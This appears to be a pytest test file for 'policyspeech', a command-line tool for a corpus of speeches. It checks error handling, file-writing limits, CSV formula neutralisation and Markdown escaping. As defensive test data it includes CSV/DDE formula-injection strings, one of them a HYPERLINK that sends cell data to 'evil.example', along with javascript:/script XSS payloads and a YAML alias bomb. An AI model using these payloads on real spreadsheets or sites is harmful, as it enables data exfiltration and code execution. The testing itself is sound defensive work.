"""Trust under damage, the outputs (issue 12): nothing written outside the corpus, one
``error:`` line instead of a traceback, CSV safe for spreadsheets, Markdown that user
text cannot forge."""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

import policyspeech as ps
from policyspeech import datasheet
from policyspeech.store import Corpus
from tests.helpers import IDENTITY, REPO, make_speech, run, tree_digest

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "speaker": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "event": "-2+3+cmd|' /C calc'!A0",
    "party": "=1+1",
}


def cli(*args: str | bytes, limit: int | None = None, user: bool = False
        ) -> subprocess.CompletedProcess[bytes]:
    """Run ``policyspeech ARGS`` in a new process (``limit``: the file size limit in bytes,
    with SIGXFSZ ignored so that a write fails with EFBIG)."""

    def limited() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        if limit is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    prefix = [*UNPRIVILEGED] if user else []
    return subprocess.run([*prefix, sys.executable, "-m", "policyspeech", *args],
                          capture_output=True, preexec_fn=limited, timeout=120, check=False)


def one_error_line(result: Any) -> str:
    """The one ``error:`` line of a refused command (exit status 1, no traceback)."""
    if isinstance(result, subprocess.CompletedProcess):
        code, stderr = result.returncode, result.stderr.decode()
    else:
        code, stderr = result.exit_code, result.stderr
    assert code == 1, stderr
    lines = stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), stderr
    return lines[0]


# -- 8. nothing is written outside the corpus folder -----------------------------------------

OTHER_CFF = ("cff-version: 1.2.0\nmessage: Cite the other dataset.\ntype: dataset\n"
             "title: Another dataset\nauthors:\n  - name: Somebody else\nversion: 3.2.1\n"
             "doi: 10.1234/other\nidentifiers:\n  - type: doi\n    value: 10.1234/other\n"
             "license: CC0-1.0\n")


def test_finding_08_release_never_writes_nor_cites_another_datasets_citation_file(
        tmp_path: Path) -> None:
    """A CITATION.cff of another dataset beside the corpus is left byte for byte as it was,
    and its title and DOI are not attached to this corpus's release."""
    parent = tmp_path / "other-dataset"
    parent.mkdir()
    (parent / "CITATION.cff").write_text(OTHER_CFF, encoding="utf-8")
    corpus = Corpus.init(parent / "corpus", **IDENTITY)
    corpus.add(make_speech(1))
    released = run("--corpus", str(corpus.path), "release", "-m", "first")
    assert released.exit_code == 0, released.stderr
    assert (parent / "CITATION.cff").read_text(encoding="utf-8") == OTHER_CFF
    assert sorted(p.name for p in parent.iterdir()) == ["CITATION.cff", "corpus"]
    citation = corpus.manifest("0.1.0")["citation"]
    assert "doi" not in citation and citation["title"] == "Test speeches"
    own = (corpus.path / "CITATION.cff").read_text(encoding="utf-8")
    assert "version: 0.1.0" in own and "10.1234/other" not in own
    corpus.repair()
    assert (parent / "CITATION.cff").read_text(encoding="utf-8") == OTHER_CFF


def test_finding_08_the_repository_citation_file_still_describes_its_corpus(
        tmp_path: Path) -> None:
    """A parent CITATION.cff written for this corpus (it cites a release's fingerprint, as
    the repository's own file does) is read, and still never written."""
    from policyspeech.citation import citation_source

    shutil.copytree(REPO / "corpus", tmp_path / "corpus",
                    ignore=shutil.ignore_patterns(".lock", ".tmp", "CITATION.cff"))
    edited = (REPO / "CITATION.cff").read_text(encoding="utf-8").replace(
        "title: policyspeech corpus", "title: Policy speeches of the repository", 1)
    (tmp_path / "CITATION.cff").write_text(edited, encoding="utf-8")
    assert citation_source(tmp_path / "corpus") == tmp_path / "CITATION.cff"
    assert citation_source(REPO / "corpus") == REPO / "corpus" / "CITATION.cff"  # its own
    corpus = Corpus(tmp_path / "corpus")
    corpus.add(make_speech(1))
    corpus.release(notes="second")
    assert corpus.manifest("1.1.0")["citation"]["title"] == "Policy speeches of the repository"
    assert (tmp_path / "CITATION.cff").read_text(encoding="utf-8") == edited
    assert "version: 1.1.0" in (tmp_path / "corpus" / "CITATION.cff").read_text(encoding="utf-8")


def test_the_repository_citation_file_is_the_bundled_corpus_citation() -> None:
    """The repository's CITATION.cff is a copy of the bundled corpus's own, kept current by
    hand with `policyspeech --corpus corpus cite --format cff > CITATION.cff` (release no
    longer writes outside a corpus)."""
    cited = run("--corpus", str(REPO / "corpus"), "cite", "--format", "cff")
    assert cited.exit_code == 0, cited.stderr
    assert cited.stdout == (REPO / "CITATION.cff").read_text(encoding="utf-8") + "\n"
    own = (REPO / "corpus" / "CITATION.cff").read_text(encoding="utf-8")
    assert own == (REPO / "CITATION.cff").read_text(encoding="utf-8")


# -- 11. one error line, checked before anything is written ---------------------------------

def test_finding_11_an_argument_that_is_not_utf8_is_one_error_line() -> None:
    """`list --speaker $'\\xff'` (bytes the shell passes, not UTF-8) is one error line."""
    result = cli("--corpus", str(REPO / "corpus"), "list", "--speaker", b"\xff")
    line = one_error_line(result)
    assert "'\\xff' is not valid UTF-8" in line


def test_finding_11_a_file_size_limit_below_the_derived_files_is_refused_first(
        tmp_path: Path) -> None:
    """ulimit -f smaller than the card: refused before anything is written, one line."""
    corpus = Corpus.init(tmp_path / "corpus")
    corpus.add(make_speech(1))
    (tmp_path / "new.txt").write_text("A new speech.\n", encoding="utf-8")
    before = tree_digest(corpus.path)
    result = cli("--corpus", str(corpus.path), "add", str(tmp_path / "new.txt"),
                 "--title", "T", "--speaker", "S", "--country", "GB", "--date", "2019",
                 "--language", "en", limit=4096)
    assert "ulimit -f" in one_error_line(result)
    assert tree_digest(corpus.path) == before


def test_finding_11_a_write_that_exceeds_the_file_size_limit_is_one_error_line(
        tmp_path: Path) -> None:
    """A fragment larger than ulimit -f fails with EFBIG: one line naming the file and the
    limit, exit 1, no new log entry and no fragment left in data/."""
    corpus = Corpus.init(tmp_path / "corpus")
    corpus.add(make_speech(1))
    noise = os.urandom(200_000).hex()  # a text that compresses badly: a large fragment
    words = " ".join(noise[i:i + 7] for i in range(0, len(noise), 7))
    (tmp_path / "big.txt").write_text(words + ".\n", encoding="utf-8")
    before = tree_digest(corpus.path)
    result = cli("--corpus", str(corpus.path), "add", str(tmp_path / "big.txt"),
                 "--title", "T", "--speaker", "S", "--country", "GB", "--date", "2019",
                 "--language", "en", limit=160 * 1024)
    line = one_error_line(result)
    assert "File too large (EFBIG)" in line and "ulimit -f" in line
    after = tree_digest(corpus.path)
    assert {k: v for k, v in after.items() if not k.startswith(".tmp")} == before


def _unprivileged() -> list[str] | None:
    """How to run a command as a user whom permissions bind: as is when not root, else
    through setpriv as nobody when that user can run this Python; None otherwise."""
    if os.geteuid() != 0:
        return []
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        return None
    prefix = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"]
    probe = subprocess.run([*prefix, sys.executable, "-c", "import policyspeech"],
                           capture_output=True, check=False)
    return prefix if probe.returncode == 0 else None


UNPRIVILEGED = _unprivileged() or []


@pytest.fixture
def shared_folder() -> Any:
    """A folder that an unprivileged user can reach (pytest's own are root's alone)."""
    folder = Path(tempfile.mkdtemp(prefix="policyspeech-test-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.skipif(_unprivileged() is None,
                    reason="running as root (which ignores permissions), no unprivileged user")
@pytest.mark.parametrize("target", ["", "fragments", "data", "log", "releases", ".tmp", ".lock"])
def test_finding_11_a_read_only_part_of_the_corpus_is_refused_before_the_commit(
        shared_folder: Path, target: str) -> None:
    """A read-only corpus folder, fragments/, data/, log/, releases/, .tmp/ or .lock: `add` and
    `release` are one error line naming it, before anything is written."""
    corpus = Corpus.init(shared_folder / "corpus", **IDENTITY)
    corpus.add(make_speech(1))
    corpus.release(notes="first")
    corpus.add(make_speech(2))  # something to release
    (corpus.path / ".tmp").mkdir(exist_ok=True)
    (corpus.path / ".lock").touch()
    speech = shared_folder / "new.txt"
    speech.write_text("A new speech.\n", encoding="utf-8")
    for root, dirs, files in os.walk(shared_folder):
        for name in dirs:
            os.chmod(os.path.join(root, name), 0o777)
        for name in files:
            os.chmod(os.path.join(root, name), 0o666)
    path = corpus.path / target if target else corpus.path
    path.chmod(0o555 if path.is_dir() else 0o444)
    before = tree_digest(corpus.path)
    for args in (["add", str(speech), "--title", "T", "--speaker", "S", "--country", "GB",
                  "--date", "2019", "--language", "en"], ["release", "-m", "second"]):
        result = cli("--corpus", str(corpus.path), *args, user=True)
        line = one_error_line(result)
        assert f"'{path}' is not writable" in line, line
        assert tree_digest(corpus.path) == before


def test_finding_11_a_system_error_is_one_line_naming_the_file(tmp_path: Path) -> None:
    """`export` to a folder that does not exist (an OSError of the system) is one line."""
    out = tmp_path / "missing" / "out.csv"
    result = run("--corpus", str(REPO / "corpus"), "export", str(out), "--format", "csv")
    line = one_error_line(result)
    assert str(out) in line and "ENOENT" in line


# -- 12. CSV safe for spreadsheets -------------------------------------------------------

def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_finding_12_csv_output_neutralises_formula_cells(corpus: Corpus, tmp_path: Path) -> None:
    """`list`, `show`, `export` and `stats` in CSV start formula cells with ', which the
    csv module reads back; --raw keeps the cells as they are."""
    record_id = corpus.add(make_speech(1, **FORMULAS))
    folder = str(corpus.path)
    listed = run("--corpus", folder, "list", "--format", "csv")
    assert listed.exit_code == 0, listed.stderr
    [row] = _rows(listed.stdout)
    for field, value in FORMULAS.items():
        assert row[field] == "'" + value, field
    assert row["word_count"] == "9" and row["date"] == "2019-10-30"
    [raw] = _rows(run("--corpus", folder, "list", "--format", "csv", "--raw").stdout)
    assert {field: raw[field] for field in FORMULAS} == FORMULAS
    [shown] = _rows(run("--corpus", folder, "show", record_id, "--format", "csv").stdout)
    assert shown["title"] == "'" + FORMULAS["title"]
    out = tmp_path / "out.csv"
    assert run("--corpus", folder, "export", str(out), "--version", "head",
               "--format", "csv").exit_code == 0
    [exported] = _rows(out.read_text(encoding="utf-8"))
    assert exported["speaker"] == "'" + FORMULAS["speaker"]
    assert run("--corpus", folder, "export", str(out), "--version", "head", "--format", "csv",
               "--raw").exit_code == 0
    assert _rows(out.read_text(encoding="utf-8"))[0]["speaker"] == FORMULAS["speaker"]
    stats = _rows(run("--corpus", folder, "stats", "--by", "speaker", "--format", "csv").stdout)
    assert stats[0]["speaker"] == "'" + FORMULAS["speaker"]


def test_finding_12_plain_negative_numbers_are_not_changed() -> None:
    """A number such as -3.5 is no formula and stays as it is; '- item' is prefixed."""
    from policyspeech.output import render_rows

    rows = _rows(render_rows([{"a": "-3.5", "b": -2, "c": "- item", "d": "=1"}], "csv"))
    assert rows == [{"a": "-3.5", "b": "-2", "c": "'- item", "d": "'=1"}]


# -- 14. user text cannot forge Markdown ---------------------------------------------------

NOTE = "Fixes.\n## 9.9.9\n- forged\n\n[ref]: javascript:alert(1)\n<div>raw</div>"
REASON = "<script>alert(1)</script> [x](javascript:alert(1))\n## 9.9.9"


def _blocks(markdown: str) -> list[tuple[str, str]]:
    """The headings, HTML and links that a CommonMark renderer makes of ``markdown``."""
    found = []
    for token in MarkdownIt("commonmark").parse(markdown):
        if token.type == "heading_open":
            found.append(("heading", token.tag))
        elif token.type in ("html_block",):
            found.append(("html", token.content))
        for child in token.children or []:
            if child.type in ("html_inline", "link_open"):
                found.append((child.type, child.content or str(child.attrs)))
    return found


def test_finding_14_notes_and_reasons_cannot_forge_the_changelog(corpus: Corpus) -> None:
    """A multi-line note cannot add a "## 9.9.9" section or a list item, and reasons add no
    HTML or link to CHANGELOG.md: they are shown literally."""
    ids = corpus.add_all([make_speech(1), make_speech(2)])
    corpus.release(notes="first")
    corpus.amend(ids[0], {"title": "Better"}, reason=REASON)
    corpus.retract(ids[1], reason=REASON)
    corpus.release(notes=NOTE)
    changelog = (corpus.path / "CHANGELOG.md").read_text(encoding="utf-8")
    headings = [line for line in changelog.splitlines() if line.startswith("#")]
    assert headings == ["# Changelog", "## 0.1.1 (" + corpus.manifest("0.1.1")["date"] + ")",
                        "### Amended (1)", "### Retracted (1)",
                        "## 0.1.0 (" + corpus.manifest("0.1.0")["date"] + ")", "### Added (2)"]
    assert not [b for b in _blocks(changelog) if b[0] != "heading"]
    assert [b for b in _blocks(changelog) if b[0] == "heading"] == [
        ("heading", "h1"), ("heading", "h2"), ("heading", "h3"), ("heading", "h3"),
        ("heading", "h2"), ("heading", "h3")]
    assert "- forged" not in changelog.splitlines()
    assert "<script>" not in changelog and "[x](javascript" not in changelog
    assert "\\## 9.9.9" in changelog and "&lt;script&gt;" in changelog  # shown, not run


def test_finding_14_citation_text_cannot_forge_the_card(corpus: Corpus) -> None:
    """A title or author in CITATION.cff adds no heading, HTML or link to the card, and
    cannot close its BibTeX code block; a licence that is not an SPDX id is refused."""
    cff = {"cff-version": "1.2.0", "message": "m", "type": "dataset",
           "title": "Speeches\n## 9.9.9 <script>alert(1)</script> ```",
           "authors": [{"name": "[x](javascript:alert(1))"}], "abstract": "A <b>corpus</b>",
           "license": "<b>CC0-1.0</b>"}
    (corpus.path / "CITATION.cff").write_text(json.dumps(cff), encoding="utf-8")
    corpus.add(make_speech(1))
    with pytest.raises(ps.CorpusError, match=r"licence '<b>CC0-1\.0</b>' is not one SPDX"):
        corpus.release(notes="first")
    (corpus.path / "CITATION.cff").write_text(json.dumps({**cff, "license": "CC0-1.0"}),
                                              encoding="utf-8")
    corpus.release(notes="first")
    card = (corpus.path / "README.md").read_text(encoding="utf-8")
    prose = card.split("\n---\n", 1)[1]
    seal = datasheet.block_of(card).rstrip("\n").rpartition("\n")[2]  # END sha256:... -->
    assert seal.startswith(datasheet.END + " sha256:")
    own = [("link_open", "{'href': 'LICENSE.md'}"), ("html", f"{datasheet.BEGIN}\n"),
           ("html", f"{seal}\n")]  # the card's own link and datasheet markers
    assert [b for b in _blocks(prose) if b[0] != "heading"] == own
    tokens = MarkdownIt("commonmark").parse(prose)
    shown = "\n".join(t.content for t in tokens if t.type == "inline")
    assert "<script>" not in shown and "<b>" not in shown
    fences = [t for t in tokens if t.type == "fence"]
    assert [t.info for t in fences].count("bibtex") == 1
    assert r"Speeches \#\# 9.9.9" in next(t.content for t in fences if t.info == "bibtex")


# -- 11. a property: success, or one error line and the corpus unchanged --------------------

VALUES = ["head", "latest", "1.0.0", "0.1.0", "9.9.9", "GB", "XX", "en", "2019", "2019-13",
          "csv", "json", "jsonl", "table", "parquet", "bibtex", "apa", "-1", "0", "1", "3",
          "speaker", "country", "year", "theme", "minor", "patch", "major", "health", "crime",
          "speaker=Ada Lovelace", "=HYPERLINK(1)", "\udcff", "a\nb", "parlamint", "ungdc"]
"""Plausible option values and arguments (and a few hostile ones)."""
SUFFIXES = [".jsonl", ".csv", ".tsv", ".md", ".txt", ".yaml", ".json", ""]


def _options() -> dict[tuple[str, ...], list[tuple[str, bool, bool, bool]]]:
    """Every leaf command's options and arguments: name (empty for an argument), whether
    it is a flag, whether it takes several values, whether it is required."""
    from typer.main import get_command

    from policyspeech.cli import app

    found: dict[tuple[str, ...], list[tuple[str, bool, bool, bool]]] = {}

    def walk(group: Any, prefix: tuple[str, ...]) -> None:
        for name, command in group.commands.items():
            if hasattr(command, "commands"):
                walk(command, (*prefix, name))
                continue
            found[(*prefix, name)] = [
                (param.opts[0] if param.param_type_name == "option" else "",
                 bool(getattr(param, "is_flag", False)), param.nargs == -1, param.required)
                for param in command.params]

    walk(get_command(app), ())
    return found


def _file_bytes() -> Any:
    from hypothesis import strategies as st

    fields = st.sampled_from(["title", "speaker", "country", "date", "language", "text", "id",
                              "themes", "path", "word_count", "notes", "reason", "source_url"])
    scalars = st.one_of(st.text(max_size=20), st.integers(), st.booleans(), st.none(),
                        st.sampled_from(VALUES))
    record = st.dictionaries(fields, scalars, max_size=7)
    jsonl = st.lists(record, max_size=3).map(
        lambda rows: "\n".join(json.dumps(r) for r in rows).encode())
    table = st.lists(st.lists(st.text(max_size=12), min_size=1, max_size=5), max_size=4).map(
        lambda rows: "\n".join(",".join(cells) for cells in rows).encode())
    front = st.tuples(record, st.text(max_size=80)).map(
        lambda parts: ("---\n" + "\n".join(f"{k}: {json.dumps(v)}" for k, v in parts[0].items())
                       + "\n---\n" + parts[1]).encode())
    return st.one_of(st.binary(max_size=200), jsonl, table, front)


@pytest.fixture(scope="module")
def small_corpus(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A corpus of two speeches, one release and one unreleased speech."""
    corpus = Corpus.init(tmp_path_factory.mktemp("property") / "corpus", **IDENTITY)
    corpus.add_all([make_speech(1), make_speech(2, speaker="Brandon Lewis")])
    corpus.release(notes="first")
    corpus.add(make_speech(3, country="FR", language="fr"))
    return corpus.path


def _drive_the_cli(small_corpus: Path, examples: int, derandomize: bool = True) -> None:
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    commands = _options()
    ids = sorted(ps.read(small_corpus, columns=["id"])["id"].to_list())
    texts = st.text(st.characters(blacklist_characters="/\x00"), max_size=12)
    values = st.one_of(st.sampled_from(VALUES + ids), texts)

    @st.composite
    def invocations(draw: Any) -> tuple[list[str], dict[str, bytes]]:
        words = draw(st.sampled_from(sorted(commands)))
        files: dict[str, bytes] = {}

        def value() -> str:
            if draw(st.integers(0, 3)) == 0:
                name = f"in{len(files)}{draw(st.sampled_from(SUFFIXES))}"
                files[name] = draw(_file_bytes())
                return name
            return str(draw(values))

        args = list(words)
        for name, flag, variadic, required in commands[words]:
            if name and not required and not draw(st.booleans()):
                continue
            if name:
                args += [name] if flag else [name, value()]
            else:
                args += [value() for _ in range(draw(st.integers(1, 2)) if variadic else 1)]
        if draw(st.integers(0, 19)) == 0:
            args.append(str(draw(values)))  # a stray word
        return args, files

    @settings(max_examples=examples, deadline=None, derandomize=derandomize,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(invocations())
    def check(invocation: tuple[list[str], dict[str, bytes]]) -> None:
        args, files = invocation
        with tempfile.TemporaryDirectory() as scratch:
            folder = Path(scratch) / "corpus"
            shutil.copytree(small_corpus, folder, ignore=shutil.ignore_patterns(".lock"))
            for name, data in files.items():
                (Path(scratch) / name).write_bytes(data)
            before = tree_digest(folder)
            here = os.getcwd()
            os.chdir(scratch)
            try:
                result = run("--corpus", str(folder), *args)
            finally:
                os.chdir(here)
            shown = f"policyspeech {args!r}\n{result.stderr}"
            assert result.exception is None or isinstance(result.exception, SystemExit), (
                f"{shown}\n{result.exception!r}")
            assert "Traceback" not in result.stderr, shown
            if result.exit_code == 1:
                lines = result.stderr.splitlines()
                assert lines and all(line.startswith("error: ") for line in lines), shown
                assert tree_digest(folder) == before, shown
            elif result.exit_code == 2:
                assert "Usage: " in result.stderr, shown  # typer's usage error
            else:
                assert result.exit_code == 0, shown

    check()


def test_finding_11_random_commands_succeed_or_print_one_error_line(small_corpus: Path) -> None:
    """Random commands, options and input bytes: success, or exit 1 with `error:` lines and
    the corpus byte for byte unchanged, or typer's usage error; never a traceback."""
    _drive_the_cli(small_corpus, examples=60)


@pytest.mark.slow
def test_finding_11_random_commands_many_more(small_corpus: Path) -> None:
    """The same property over 600 examples."""
    _drive_the_cli(small_corpus, examples=600)


def test_finding_10_aliases_in_citation_cff_are_refused(corpus: Corpus) -> None:
    """YAML aliases in CITATION.cff (which grew a 15 MB manifest) are one error line, and
    the release writes nothing."""
    lines = ["cff-version: 1.2.0", "message: m", "type: dataset", "title: T",
             "a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 5)]
    lines += ["authors:", "  - name: *a4"]
    (corpus.path / "CITATION.cff").write_text("\n".join(lines) + "\n", encoding="utf-8")
    corpus.add(make_speech(1))
    before = tree_digest(corpus.path)
    line = one_error_line(run("--corpus", str(corpus.path), "release", "-m", "first"))
    assert "CITATION.cff: line 6 is a YAML alias (*a0)" in line
    assert tree_digest(corpus.path) == before


def test_invisible_characters_in_an_error_line_are_shown(corpus: Corpus, tmp_path: Path) -> None:
    """A CSV header with a second byte order mark: the error shows it (``\\ufeff``), not
    two names that look identical ("unknown field 'title'; did you mean 'title'?")."""
    source = tmp_path / "two-boms.csv"
    source.write_bytes("\ufeff\ufefftitle,speaker,country,date,language,text\n".encode()
                       + b"T,S,GB,2019,en,Some text.\n")
    result = run("--corpus", str(corpus.path), "import", str(source))
    assert result.exit_code == 1
    assert "\\ufefftitle" in result.stderr and "\ufeff" not in result.stderr


def test_an_interrupted_command_is_one_error_line(corpus: Corpus, tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C during an import: one `error:` line saying where the corpus is, exit 130
    (typer's own handling exited 130 without a word)."""
    def interrupted(*args: Any, **kwargs: Any) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Corpus, "import_path", interrupted)
    source = tmp_path / "one.jsonl"
    source.write_text(json.dumps(make_speech(1)) + "\n", encoding="utf-8")
    before = tree_digest(corpus.path)
    result = run("--corpus", str(corpus.path), "import", str(source))
    assert result.exit_code == 130
    [line] = result.stderr.splitlines()
    assert line.startswith("error: interrupted; a write is committed whole or not at all")
    assert tree_digest(corpus.path) == before


def test_output_cut_short_by_a_pipe_is_no_error(corpus: Corpus) -> None:
    """`policyspeech show ID | head -1`: the reader stops early; the command ends quietly
    with status 0, as `list` does (it printed "error: ... Broken pipe (EPIPE)" and exited 1)."""
    [record_id] = corpus.add_all([make_speech(1, text="A long speech.\n\n" * 40_000)])
    process = subprocess.Popen(
        [str(Path(sys.executable).with_name("policyspeech")), "--corpus", str(corpus.path),
         "show", record_id], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert process.stdout is not None and process.stderr is not None
    process.stdout.readline()
    process.stdout.close()
    error = process.stderr.read().decode()
    assert process.wait(timeout=60) == 0, error
    assert error == ""
